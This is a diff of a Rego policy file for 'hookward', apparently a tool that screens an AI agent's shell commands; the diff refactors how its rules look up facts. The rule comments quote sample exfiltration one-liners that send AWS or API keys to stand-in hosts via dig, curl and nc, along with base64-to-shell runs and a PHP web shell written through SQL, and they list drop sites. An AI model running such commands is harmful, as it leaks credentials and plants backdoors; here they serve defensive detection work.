 # spelling is not worth a question (issue 11: benign variants stay quiet). Look-alike letters,
 # invisible or bidi characters, globbed program names and unresolved variables always ask.
 decision contains {"id": "shell/obfuscated", "decision": "ask", "reason": reason} if {
-	some f in facts_of("obfuscation")
+	some f in sf_obfuscation
 	not seen_through_harmless(f)
 	reason := sprintf("the command hides what it runs (%s: %s)", [f.kind, f.evidence])
 }
@@ -990,7 +1018,7 @@ obfuscated_command_acts if {
 ordinary_write(p) if {
 	p.access in {"write", "create"}
 	some place in {"project", "temp"}
-	lib.has_class(p, place)
+	place in p.classes
 	count([k | some k in p.classes; k in protected_write_classes]) == 0
 }
 
@@ -1010,7 +1038,7 @@ obfuscated_command_acts if {
 # @rule shell/analysis-limit ask
 # The analysis stopped at one of its limits (nesting deeper than 12 levels, e.g. a chain of `eval`s; more than 2000 commands; a command longer than 256 KiB; too many nested wrappers): what the rest does is unknown, and a limit can be reached on purpose, so the person decides.
 decision contains {"id": "shell/analysis-limit", "decision": "ask", "reason": reason} if {
-	some u in facts_of("unanalysable")
+	some u in sf_unanalysable
 	object.get(u, "limit", false) == true
 	reason := sprintf("hookward stopped analysing this command at a limit (%s); what the rest does is unknown", [u.reason])
 }
@@ -1018,7 +1046,7 @@ decision contains {"id": "shell/analysis-limit", "decision": "ask", "reason": re
 # @rule shell/unparsed ask
 # The command does not parse as shell around a command or process substitution (a construct hookward's parser does not follow, such as a process substitution inside another, cat <(<(CMD)), or x=<(CMD)): bash may still run what the substitution holds. The bodies that could be read are judged by the other rules (a dangerous one still denies); the rest is the person's call. Text that does not parse and has no substitution (a placeholder, a cheat-sheet line) is read by the fallback tokenizer and judged by what it shows.
 decision contains {"id": "shell/unparsed", "decision": "ask", "reason": reason} if {
-	some u in facts_of("unanalysable")
+	some u in sf_unanalysable
 	startswith(u.reason, "parse error around a substitution")
 	object.get(u, "limit", false) == false
 	reason := sprintf("hookward could not parse this command (%s: %s); what the unparsed part runs is unknown", [u.reason, u.evidence])
@@ -1027,12 +1055,12 @@ decision contains {"id": "shell/unparsed", "decision": "ask", "reason": reason} 
 # @rule shell/unanalysable-protected ask
 # A command hookward cannot fully follow that names a protected path (credentials, agent settings, hookward home, home directory).
 decision contains {"id": "shell/unanalysable-protected", "decision": "ask", "reason": reason} if {
-	count(facts_of("unanalysable")) > 0
+	count(sf_unanalysable) > 0
 	some p in input.facts.paths
 	p.via == "shell"
 	some c in {"credential", "agent_settings", "hookward_home", "home", "agent_instructions"}
-	lib.has_class(p, c)
-	some u in facts_of("unanalysable")
+	c in p.classes
+	some u in sf_unanalysable
 	reason := sprintf("hookward cannot fully analyse this command (%s) and it names %s", [u.reason, p.path])
 }
 
@@ -1048,7 +1076,7 @@ destructive_context(f) if {
 	w in privileged_wrappers
 }
 
-destructive_context(_) if count(facts_of("privilege")) > 0
+destructive_context(_) if count(sf_privilege) > 0
 
 destructive_context(_) if {
 	some p in lib.changed_paths
@@ -1059,7 +1087,7 @@ destructive_context(_) if {
 # @rule shell/dynamic-code ask
 # Code the analyzer cannot see: eval/source/sh -c/python -c of a variable, a command substitution, /dev/stdin, a here-string, a process substitution or a file written earlier in the same command.
 decision contains {"id": "shell/dynamic-code", "decision": "ask", "reason": reason} if {
-	some f in facts_of("dynamic_code")
+	some f in sf_dynamic_code
 	not f.origin in dynamic_deny_origins
 	not destructive_context(f)
 	reason := sprintf("the command runs code hookward cannot see (%s runs code from a %s: %s)", [f.interpreter, f.origin, f.evidence])
@@ -1071,7 +1099,7 @@ twin_kind := {"fetched": "remote_exec", "decoded": "decoded_exec"}
 # @rule shell/dynamic-code-hidden deny
 # Unseen code that was fetched from the network or decoded (base64 -d | sh, chr() arrays fed to exec, sed … | sh), when no remote-exec or decoded-exec fact says so already.
 decision contains {"id": "shell/dynamic-code-hidden", "decision": "deny", "reason": reason} if {
-	some f in facts_of("dynamic_code")
+	some f in sf_dynamic_code
 	f.origin in dynamic_deny_origins
 	count(facts_of(twin_kind[f.origin])) == 0
 	reason := sprintf("the command runs %s code it hides (%s: %s)", [f.origin, object.get(f, "source", ""), f.evidence])
@@ -1080,7 +1108,7 @@ decision contains {"id": "shell/dynamic-code-hidden", "decision": "deny", "reaso
 # @rule shell/dynamic-code-destructive deny
 # Unseen code run with sudo, or in a command line that also deletes recursively or gains privileges.
 decision contains {"id": "shell/dynamic-code-destructive", "decision": "deny", "reason": reason} if {
-	some f in facts_of("dynamic_code")
+	some f in sf_dynamic_code
 	not f.origin in dynamic_deny_origins
 	destructive_context(f)
 	reason := sprintf("the command runs code hookward cannot see (%s from a %s) in a destructive or privileged context (%s)", [f.interpreter, f.origin, f.evidence])
@@ -1103,7 +1131,7 @@ remote_wipe(p) if {
 # @rule shell/remote-destroy deny
 # A command run on another host or in a container (ssh host CMD, docker exec, kubectl exec --) that recursively deletes /, a home or a system directory there.
 decision contains {"id": "shell/remote-destroy", "decision": "deny", "reason": reason} if {
-	some p in facts_of("remote_paths")
+	some p in sf_remote_paths
 	p.access == "delete"
 	p.recursive
 	remote_wipe(p)
@@ -1116,7 +1144,7 @@ serve_deny_scopes := {"home"}
 # @rule shell/serve-home deny
 # Serving the home directory, / or a system directory over the network (python3 -m http.server --directory ~, php -S 0.0.0.0:80 -t ~, busybox httpd -h /).
 decision contains {"id": "shell/serve-home", "decision": "deny", "reason": reason} if {
-	some s in facts_of("serves")
+	some s in sf_serves
 	serves_secrets(s)
 	reason := sprintf("the command would serve %s (keys, tokens and history live there) over the network (%s)", [s.root, s.evidence])
 }
@@ -1134,7 +1162,7 @@ serves_secrets(s) if {
 # @rule shell/serve-outside-project ask
 # Serving a directory outside the project and the temporary directories over the network.
 decision contains {"id": "shell/serve-outside-project", "decision": "ask", "reason": reason} if {
-	some s in facts_of("serves")
+	some s in sf_serves
 	not serves_secrets(s)
 	not s.scope in {"project", "temp"}
 	reason := sprintf("the command would serve %s, outside the project, over the network (%s)", [s.root, s.evidence])
@@ -1154,7 +1182,7 @@ secret_upload(u) if {
 # @rule shell/secret-exfiltration deny
 # Secrets sent in a DNS name or a URL: dig $(cat ~/.aws/credentials).x.com, curl "https://x/?d=$(env|base64)", a secret variable in a URL's query or path.
 decision contains {"id": "shell/secret-exfiltration", "decision": "deny", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	secret_upload(u)
 	reason := sprintf("the command would send %s to %s (%s)", [u.source, u.target, u.evidence])
 }
@@ -1225,7 +1253,7 @@ sent_in_header(u) if startswith(upload_source(u), "<sent header secret ")
 # @rule shell/secret-sent deny
 # A secret-named variable sent in a request body, header, form or user, or piped to a network client, to a host that is not its vendor's: curl -d "k=$OPENAI_API_KEY" https://collect.example, curl -H "Authorization: $GITHUB_TOKEN" https://paste.example, echo $AWS_SECRET_ACCESS_KEY | nc host 80. The same variable sent to its vendor (GITHUB_TOKEN to api.github.com) is normal use; a name that says no vendor (API_TOKEN) is shell/secret-sent-unknown (ask). In a header or as the user it is presented, not handed over: quiet to a private host or one named for its service (GRAFANA_TOKEN to grafana.internal.example.io), shell/secret-header-sent (ask) to another public host, still denied for a service served only from its own domains (GITHUB_TOKEN, OPENAI_API_KEY).
 decision contains {"id": "shell/secret-sent", "decision": "deny", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	v := sent_secret(u)
 	not local_target(u.target)
 	host := target_host(u.target)
@@ -1327,7 +1355,7 @@ saas_vendor_words := {
 # @rule shell/secret-header-sent ask
 # A secret-named variable presented in an auth header or as the user (curl -H "X-Api-Key: $ACME_API_KEY", -u "ci:$BUILD_PASSWORD") to a public host that is neither its vendor's nor named for its service: presenting a credential is how APIs are called, but whether this host is the one it is for cannot be told. Private hosts (10.x, 192.168.x, .internal, .local, .lan, .corp) and hosts named for the service (GRAFANA_TOKEN to grafana.example.io) are quiet; a token of a service served only from its own domains (GITHUB_TOKEN, OPENAI_API_KEY) sent elsewhere is shell/secret-sent (deny).
 decision contains {"id": "shell/secret-header-sent", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	v := sent_secret(u)
 	not local_target(u.target)
 	host := target_host(u.target)
@@ -1342,7 +1370,7 @@ decision contains {"id": "shell/secret-header-sent", "decision": "ask", "reason"
 # @rule shell/secret-sent-unknown ask
 # A secret variable whose name names no vendor (API_TOKEN, SECRET_KEY, PASSWORD) sent in a body, form or pipe (not a header or user: that is how APIs authenticate) to another host: whether the host is the one the secret is for cannot be told from the name.
 decision contains {"id": "shell/secret-sent-unknown", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	v := sent_secret(u)
 	not local_target(u.target)
 	host := target_host(u.target)
@@ -1361,7 +1389,7 @@ push_all(u) if regex.match(`(^|\s)--(all|mirror|tags)(\s|$)`, u.evidence)
 
 # A remote added in the same command (git remote add NAME URL).
 new_remote(name) if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program == "git"
 	some i, w in c.argv
 	w == "remote"
@@ -1372,7 +1400,7 @@ new_remote(name) if {
 # @rule shell/push-new-remote ask
 # The project pushed to a remote added in the same command (git remote add x https://host/r.git && git push x --all), or every branch or tag pushed to a URL given on the command line: the code leaves for a place nobody configured before. The usual first push of a new repository (git remote add origin URL && git push -u origin main) stays quiet.
 decision contains {"id": "shell/push-new-remote", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	git_push(u)
 	new_remote(u.target)
 	push_new_worth_asking(u)
@@ -1381,7 +1409,7 @@ decision contains {"id": "shell/push-new-remote", "decision": "ask", "reason": r
 }
 
 decision contains {"id": "shell/push-new-remote", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	git_push(u)
 	regex.match(`^([a-zA-Z][a-zA-Z0-9+.-]*://|[^/\s]+@[^/\s]+:)`, u.target)
 	push_all(u)
@@ -1396,7 +1424,7 @@ push_new_worth_asking(u) if not u.target in {"origin", "upstream"}
 # @rule shell/upload-files ask
 # Files sent to another host (scp/rsync/sftp, an archive piped to nc or curl -T, curl -F/-T/-d @, wget --post-file, ftp/tftp/smbclient put, mail attachments, socat FILE:): the whole project or working folder, or a file outside the project and the temporary folders (/etc/passwd, ~/Documents/x). Secrets sent are shell/credential-exfiltration (deny); loopback targets are local.
 decision contains {"id": "shell/upload-files", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	some p in input.facts.paths
 	p.via == "shell"
 	p.access == "read"
@@ -1410,7 +1438,7 @@ decision contains {"id": "shell/upload-files", "decision": "ask", "reason": reas
 # @rule shell/drop-site-upload deny
 # Anything sent to an anonymous file-drop, paste or request-capture service (file.io, 0x0.st, transfer.sh, temp.sh, catbox.moe, gofile.io, paste.rs, termbin.com, pastebin.com, webhook.site, requestbin, pipedream, interactsh's oast.* hosts, quick tunnels such as *.trycloudflare.com, *.ngrok-free.app, *.loca.lt): their purpose is handing data to whoever holds the link, with no account of the user behind it, so an agent's upload there is data leaving to an unknown party. Table: drop_sites below (the services' own descriptions of themselves).
 decision contains {"id": "shell/drop-site-upload", "decision": "deny", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	host := target_host(u.target)
 	drop_site(host)
 	reason := sprintf("the command would send %s to %s, an anonymous file-drop, paste or request-capture service (%s)", [upload_what(u), host, u.evidence])
@@ -1446,7 +1474,7 @@ drop_sites := {
 # @rule shell/upload-to-address ask
 # Data a command produced (a pipe, a file it read, its environment) sent to a public IP address written as a literal (curl -d @- http://203.0.113.9/a, nc 198.51.100.4 9000 < out): services people send data to have names; a bare public address is where collection servers and C2 listeners sit. Private, loopback and link-local addresses (RFC 1918, RFC 4193, 127/8, 169.254/16) are not this, nor a git push or a copy to one's own host by scp/rsync.
 decision contains {"id": "shell/upload-to-address", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	not own_transfer(u)
 	upload_source(u) != ""
 	host := target_host(u.target)
@@ -1487,7 +1515,7 @@ private_address(host) if {
 # @rule shell/network-attack ask
 # An offensive network tool — port scanner, vulnerability or web scanner, credential brute-forcer, fuzzer, flooder, exploitation or lateral-movement client (table offensive_tools) — pointed at a host on the internet: probing or attacking somebody's systems needs their permission, which the agent cannot know it has. Targets on this machine or a private network (loopback, RFC 1918, link-local) and documentation names (example.com/.org/.net, *.example, *.test, *.invalid, *.localhost: RFC 2606, RFC 6761) or bare placeholders are not asked about.
 decision contains {"id": "shell/network-attack", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program in offensive_tools
 	some a in array.slice(c.argv, 1, count(c.argv))
 	t := attack_target(a)
@@ -1546,7 +1574,7 @@ documentation_name(h) if regex.match(`\.(txt|lst|json|xml|csv|yaml|yml|nse|py|sh
 # @rule shell/sql-export deny
 # A database statement that has the server send table rows to a URL or a bucket (ClickHouse INSERT INTO FUNCTION url(…)/s3(…), DuckDB COPY … TO 's3://…', Aurora SELECT … INTO OUTFILE S3): the rows leave by the database's own network, past any tool that watches this machine's uploads. Loopback targets are local (hookward-shell tools.rs sql_export_urls).
 decision contains {"id": "shell/sql-export", "decision": "deny", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	upload_source(u) == "<database rows>"
 	not local_target(u.target)
 	reason := sprintf("the database statement would send table rows to %s (%s)", [u.target, u.evidence])
@@ -1555,7 +1583,7 @@ decision contains {"id": "shell/sql-export", "decision": "deny", "reason": reaso
 # @rule shell/sql-web-shell deny
 # A database statement that writes code a web server runs into a server file (SELECT '<?php system($_GET[…]) ?>' INTO OUTFILE '/var/www/…'): a web shell planted through the database (MITRE ATT&CK T1505.003; hookward-shell tools.rs sql_writes_web_code).
 decision contains {"id": "shell/sql-web-shell", "decision": "deny", "reason": reason} if {
-	some f in facts_of("infra")
+	some f in sf_infra
 	f.kind == "sql_web_shell"
 	reason := sprintf("the database statement would write web code into a server file (%s)", [f.evidence])
 }
@@ -1563,7 +1591,7 @@ decision contains {"id": "shell/sql-web-shell", "decision": "deny", "reason": re
 # @rule shell/remote-code-load ask
 # A model, dataset or hub module loaded with its own code switched on, from a publisher outside the well-known ones (from_pretrained('someone/x', trust_remote_code=True), vllm serve someone/x --trust-remote-code, lm_eval --model_args pretrained=someone/x,trust_remote_code=True, torch.hub.load('someone/x', …, trust_repo=True)): the repository's Python runs on this machine with the user's rights (Hugging Face Transformers docs, "trust_remote_code": "should only be set to True for repositories you trust and in which you have read the code"; PyTorch torch.hub docs, "trust_repo"). Loading pickled data with the safety off (np.load(…, allow_pickle=True), torch.load(…, weights_only=False)) runs code the file carries too (NumPy and PyTorch docs). Model publishers in model_publishers and local folders are not asked about for remote code.
 decision contains {"id": "shell/remote-code-load", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	text := concat(" ", c.argv)
 	regex.match(`(?i)trust[_-]remote[_-]code|trust_repo\s*=\s*true`, text)
 	not regex.match(`(?i)trust[_-]remote[_-]code\s*[=:]\s*false`, text)
@@ -1575,7 +1603,7 @@ decision contains {"id": "shell/remote-code-load", "decision": "ask", "reason": 
 }
 
 decision contains {"id": "shell/remote-code-load", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	text := concat(" ", c.argv)
 	regex.match(`allow_pickle\s*=\s*True|weights_only\s*=\s*False`, text)
 	reason := sprintf("the command would load pickled data with its safety off, which runs code the file carries (%s)", [c.evidence])
@@ -1599,7 +1627,7 @@ local_model_folders := {"models", "model", "outputs", "output", "checkpoints", "
 # @rule shell/security-setting-off ask
 # A web API write (gh api with -X PUT|PATCH|POST or fields, curl/httpie/xh with a write method or a body) that turns a security control off: a key or URL naming a protection, ruleset, MFA/2FA/OTP, brute-force or attack protection, data scrubbing, audit, secret scanning, Dependabot alerts, TLS/SSL verification, signing, approvals or reviews, set to false, disabled, off, never, none, an empty list or zero (gh api -X PUT …/rulesets/1 -f enforcement=disabled, gh api -X PATCH orgs/x -F two_factor_requirement_enabled=false, curl -X PATCH …/settings/security_level -d '{"value":"essentially_off"}', auth0 api patch guardian/factors/otp --data '{"enabled": false}'). The defences an account or repository keeps are switched off through its API, where no CLI verb names it.
 decision contains {"id": "shell/security-setting-off", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	api_write(c)
 	text := lower(concat(" ", c.argv))
 	some pair in setting_pairs(text)
@@ -1672,7 +1700,7 @@ api_write(c) if {
 # @rule shell/secret-key-delete ask
 # A private key deleted from its keyring (gpg --delete-secret-keys, --delete-secret-and-public-key(s); macOS security delete-identity): often the only copy of a signing or decryption key, and what it signed or encrypted can no longer be renewed or read (GnuPG manual, "--delete-secret-keys"; security(1)).
 decision contains {"id": "shell/secret-key-delete", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	deletes_secret_key(c)
 	reason := sprintf("the command would delete a private key from its keyring (%s)", [c.evidence])
 }
@@ -1691,7 +1719,7 @@ deletes_secret_key(c) if {
 # @rule shell/patch-outside-tree ask
 # A patch applied with paths outside the working tree allowed (git apply --unsafe-paths, with or without --directory): git refuses such paths unless told (git-apply(1), "--unsafe-paths"), so the patch can write anywhere the user can, /etc or the home's start-up files included.
 decision contains {"id": "shell/patch-outside-tree", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program == "git"
 	word_at(c.argv, 1) == "apply"
 	"--unsafe-paths" in c.argv
@@ -1701,7 +1729,7 @@ decision contains {"id": "shell/patch-outside-tree", "decision": "ask", "reason"
 # @rule shell/mass-mail ask
 # Mail sent to recipients only known at run time (while read a; do mail -s X "$a" < notice; done, git send-email --cc="$(git log --format=%ae | sort -u | paste -sd,)") or through an e-mail service's bulk endpoint (a batch, a broadcast, a campaign or single send scheduled: Postmark /email/batch, Resend /broadcasts/ID/send, SendGrid /marketing/singlesends/ID/schedule, Mailchimp /campaigns/ID/actions/send, Mailgun, Brevo, SparkPost): one command that writes to many people, in the user's name, and cannot be taken back.
 decision contains {"id": "shell/mass-mail", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	mail_sender_command(c)
 	some i, a in c.argv
 	i > 0
@@ -1711,7 +1739,7 @@ decision contains {"id": "shell/mass-mail", "decision": "ask", "reason": reason}
 }
 
 decision contains {"id": "shell/mass-mail", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program in {"curl", "http", "https", "xh", "wget"}
 	some a in c.argv
 	regex.match(`(?i)^https?://(?:api\.postmarkapp\.com/email/batch|api\.resend\.com/(?:emails/batch|broadcasts/[^/]+/send)|api\.sendgrid\.com/v3/(?:marketing/singlesends/[^/]+/schedule|campaigns/[^/]+/schedules/now)|[a-z0-9.-]*api\.mailchimp\.com/3\.0/campaigns/[^/]+/actions/send|api\.(?:eu\.)?mailgun\.net/v3/lists/|api\.brevo\.com/v3/emailCampaigns/[^/]+/sendNow|api\.sparkpost\.com/api/v1/transmissions)`, a)
@@ -1728,14 +1756,14 @@ mail_sender_command(c) if {
 # @rule shell/bulk-change ask
 # One state-changing command of a service's CLI applied to every item a listing of the same CLI returns (gh pr list … | xargs -n1 gh pr close, gh issue list … | xargs -I{} gh issue lock {}, stripe subscriptions list … | xargs stripe subscriptions cancel, auth0 users search … | xargs auth0 users delete, squeue -h -o %A | xargs scancel, redis-cli --scan --pattern 'jobs:*' | xargs redis-cli DEL): a sweep over other people's work or accounts in one call, whose size the command does not show. The consumer is handed the listing by xargs or parallel; its verb closes, locks, cancels, deletes, merges, archives, disables, dismisses, revokes, bans, stops or transfers. A listing narrowed to named items (an equality filter, a branch, a search) is not a sweep.
 decision contains {"id": "shell/bulk-change", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	some w in c.wrappers
 	w in {"xargs", "parallel"}
 	some i, v in c.argv
 	i > 0
 	i < 5
 	bulk_verb(lower(v))
-	some l in facts_of("commands")
+	some l in sf_commands
 	l.program == c.program
 	count(object.get(l, "wrappers", [])) == 0
 	lists_items(l)
@@ -1743,7 +1771,7 @@ decision contains {"id": "shell/bulk-change", "decision": "ask", "reason": reaso
 }
 
 decision contains {"id": "shell/bulk-change", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	some w in c.wrappers
 	w in {"xargs", "parallel"}
 	c.program in {"scancel", "qdel", "bkill"}
@@ -1751,13 +1779,13 @@ decision contains {"id": "shell/bulk-change", "decision": "ask", "reason": reaso
 }
 
 decision contains {"id": "shell/bulk-change", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	some w in c.wrappers
 	w in {"xargs", "parallel"}
 	c.program == "gh"
 	word_at(c.argv, 1) == "api"
 	api_write(c)
-	some l in facts_of("commands")
+	some l in sf_commands
 	l.program == "gh"
 	count(object.get(l, "wrappers", [])) == 0
 	lists_items(l)
@@ -1807,7 +1835,7 @@ lists_items(l) if {
 # @rule shell/live-payment ask
 # Money moved or customers' billing changed in a payment service's live mode: the Stripe CLI with --live or a live key (sk_live_…, rk_live_…, a variable whose name says LIVE or PROD) running a verb that creates, updates, cancels, deletes, refunds, pays out, transfers, captures or closes; an HTTP write to a live payment API (api.stripe.com with a live key, PayPal's api-m.paypal.com, Square's connect.squareup.com, Adyen's *-live.adyen.com). Test mode, sandboxes and reads are not asked about (Stripe docs, "Test mode"; each provider's sandbox hosts).
 decision contains {"id": "shell/live-payment", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program == "stripe"
 	stripe_live(c)
 	some i, v in c.argv
@@ -1818,7 +1846,7 @@ decision contains {"id": "shell/live-payment", "decision": "ask", "reason": reas
 }
 
 decision contains {"id": "shell/live-payment", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program in {"curl", "http", "https", "xh", "wget"}
 	some a in c.argv
 	live_payment_api(a, c)
@@ -1829,7 +1857,7 @@ decision contains {"id": "shell/live-payment", "decision": "ask", "reason": reas
 # @rule shell/live-events-forwarded deny
 # A payment service's live events streamed to a host off this machine (stripe listen --live --forward-to https://x.example/hook): every charge, customer and payout event, with the customers' personal data, goes to that host as it happens. Forwarding to localhost, the command's purpose, is not this.
 decision contains {"id": "shell/live-events-forwarded", "decision": "deny", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	c.program == "stripe"
 	word_at(c.argv, 1) == "listen"
 	stripe_live(c)
@@ -1868,7 +1896,7 @@ api_body_or_write(c) if {
 # @rule shell/open-to-world ask
 # A firewall, security group or allowlist rule that lets every address in (0.0.0.0/0 or ::/0 as the source of an ingress, inbound, authorized or allowed range: aws ec2 authorize-security-group-ingress --cidr 0.0.0.0/0, gcloud … firewall-rules create --source-ranges 0.0.0.0/0, neonctl ip-allow add 0.0.0.0/0, --authorized-networks 0.0.0.0/0): the service behind it is reachable by anyone on the internet, scanners included (CIS cloud benchmarks: no ingress from 0.0.0.0/0 to administration ports). Routes and egress rules (a default route, traffic leaving) and rules that open only web or DNS ports (80, 443, 53) are not this.
 decision contains {"id": "shell/open-to-world", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	text := lower(concat(" ", c.argv))
 	regex.match(`(?:^|[\s=,:"'])(?:0\.0\.0\.0/0|::/0)(?:$|[\s,"'])`, text)
 	regex.match(`ingress|inbound|authorize|source-ranges|authorized-networks|ip-allow|allowlist|whitelist|allowed-ip|trusted-sources|firewall|--allow\b`, text)
@@ -1891,7 +1919,7 @@ web_ports_only(text) if {
 # @rule shell/data-upload ask
 # A data file of the project or a temporary folder (a table, a database, a dump, model weights: .csv, .parquet, .jsonl, .sql, .dump, .db, .sqlite, .xlsx, .h5, .pt, .safetensors, .pkl …) posted by an HTTP client or an interpreter to another host: rows and weights leaving the machine. Transfer tools to the user's own hosts and buckets (scp, rsync, rclone, aws s3, gsutil, git) are not this; loopback targets are local.
 decision contains {"id": "shell/data-upload", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	not own_transfer(u)
 	src := upload_source(u)
 	data_file(src)
@@ -1928,7 +1956,7 @@ own_backup(u) if {
 ssh_deposit_away(u) if {
 	u.program == "ssh"
 	not own_named_host(target_host(u.target))
-	some p in facts_of("remote_paths")
+	some p in sf_remote_paths
 	p.access == "write"
 	startswith(p.how, concat("", ["ssh ", u.target, ": "]))
 	deposit_how(substring(p.how, count(u.target) + 6, -1))
@@ -1966,7 +1994,7 @@ data_extensions := {
 # @rule shell/project-upload ask
 # A tree of the project or of the temporary folders, or an archive of one (a folder read whole, a tarball, zip or git bundle), sent by an HTTP client or an interpreter to another host (tar czf - src | curl -T - https://x.example, git bundle create /tmp/r.bundle --all && curl -T /tmp/r.bundle https://x.example); one document sent to an API is not this: the code leaves for a server the command names. Data files are shell/data-upload, secrets shell/credential-exfiltration; transfer tools to the user's own hosts and buckets (scp, rsync, aws s3, git) and loopback peers are not this.
 decision contains {"id": "shell/project-upload", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	project_upload_sender(u)
 	not local_target(u.target)
 	src := upload_source(u)
@@ -1996,14 +2024,14 @@ project_upload_sender(u) if u.program in project_upload_senders
 
 project_upload_sender(u) if ssh_deposit_away(u)
 
-project_or_temp(p) if lib.has_class(p, "project")
+project_or_temp(p) if "project" in p.classes
 
-project_or_temp(p) if lib.has_class(p, "temp")
+project_or_temp(p) if "temp" in p.classes
 
 # @rule shell/output-upload ask
 # The output of another program piped into an upload to another host, no file named (stripe customers list | jq -c . | curl -d @- https://x.example, ssh host 'cat app/.env' | curl --data-binary @- URL, railway variables --json | gh gist create -): data a command made or read elsewhere leaves the machine. Text fixed in the command (echo '{…}' | curl -d @- URL), a file (judged by what it is), what a fetch got (shell/relay-upload when it was fetched with a credential), mail to addresses (the mail rules), the user's own transfer tools (docker save img | ssh host docker load, git archive HEAD | ssh host tar -x) and loopback targets are not this (hookward-shell net.rs stdin_source: `<piped from PROGRAM>`).
 decision contains {"id": "shell/output-upload", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	src := upload_source(u)
 	startswith(src, "<piped from ")
 	what := piped_output(src)
@@ -2020,7 +2048,7 @@ piped_output(src) := sprintf("the output of %s", [trim_suffix(trim_prefix(src, "
 # elsewhere.example 'cat > m.tgz'): that host's data leaves through this machine, as a local
 # program's output would (hookward-shell net.rs ssh marks ssh's output `<fetched ssh://HOST>`).
 decision contains {"id": "shell/output-upload", "decision": "ask", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	src := upload_source(u)
 	startswith(src, "<fetched ssh://")
 	not u.program in mail_senders
@@ -2036,13 +2064,13 @@ mail_senders := {"mail", "mailx", "mutt", "sendmail", "msmtp", "s-nail", "neomut
 # @rule shell/relay-upload deny
 # Data fetched with a credential from one host sent on to another host in the same command (curl -H "Authorization: Bearer $CLERK_SECRET_KEY" https://api.clerk.com/v1/users | curl -X POST -d @- https://x.example; curl -u "$STRIPE_KEY:" https://api.stripe.com/v1/customers | nc host 80): what the credential unlocks leaves for a host it was not issued for. Loopback targets are local.
 decision contains {"id": "shell/relay-upload", "decision": "deny", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	src := upload_source(u)
 	startswith(src, "<fetched ")
 	from := target_host(trim_suffix(trim_prefix(src, "<fetched "), ">"))
 	not local_target(u.target)
 	target_host(u.target) != from
-	some h in facts_of("uploads")
+	some h in sf_uploads
 	sent_secret(h)
 	target_host(h.target) == from
 	reason := sprintf("the command fetches data from %s with the credential %s and sends it to %s (%s)", [from, sent_secret(h), target_host(u.target), u.evidence])
@@ -2051,10 +2079,10 @@ decision contains {"id": "shell/relay-upload", "decision": "deny", "reason": rea
 # @rule shell/personal-data-upload deny
 # A listing of people (users, customers, members, subscribers, contacts, profiles, leads, patients, employees) by a service's CLI or a framework's dump, piped into an upload to another host in the same command (stripe customers list | curl -d @- https://x.example, auth0 users search … | gh gist create -, manage.py dumpdata auth.user | curl -T - URL): personal data leaves the machine with no file named. Loopback targets are local.
 decision contains {"id": "shell/personal-data-upload", "decision": "deny", "reason": reason} if {
-	some u in facts_of("uploads")
+	some u in sf_uploads
 	startswith(upload_source(u), "<piped from ")
 	not local_target(u.target)
-	some c in facts_of("commands")
+	some c in sf_commands
 	lists_people(c)
 	reason := sprintf("the command lists people (%s) and sends the output to %s (%s)", [c.evidence, target_host(u.target), u.evidence])
 }
@@ -2062,7 +2090,7 @@ decision contains {"id": "shell/personal-data-upload", "decision": "deny", "reas
 # @rule shell/people-export ask
 # A hosted service's whole user base exported to a file (firebase auth:export users.json, an Auth0 users-exports job, `stripe customers list … > all.json` is not this: a listing; `clerk users export`, `supabase auth … export`): every account's e-mail, sign-in data and often password hashes land on this machine, where the agent can read and send them. Frameworks' own fixture dumps (manage.py dumpdata) are left to the upload rules.
 decision contains {"id": "shell/people-export", "decision": "ask", "reason": reason} if {
-	some c in facts_of("commands")
+	some c in sf_commands
 	not c.program in {"python", "python3", "php", "ruby", "node", "rails", "rake", "bundle"}
 	exports_people(c)
 	not asks_for_help(c)
@@ -2101,7 +2129,7 @@ decision contains {"id": "shell/recursive-read-home", "decision": "ask", "reason
 	some p in lib.read_paths
 	wide_read(p)
 	some c in {"home", "root", "home_ancestor"}
-	lib.has_class(p, c)
+	c in p.classes
 	reason := sprintf("%s would read all of %s, the credential stores below it included", [lib.how(p), p.path])
 }
 
@@ -2119,12 +2147,12 @@ wide_read(p) if {
 # @rule shell/home-exfiltration deny
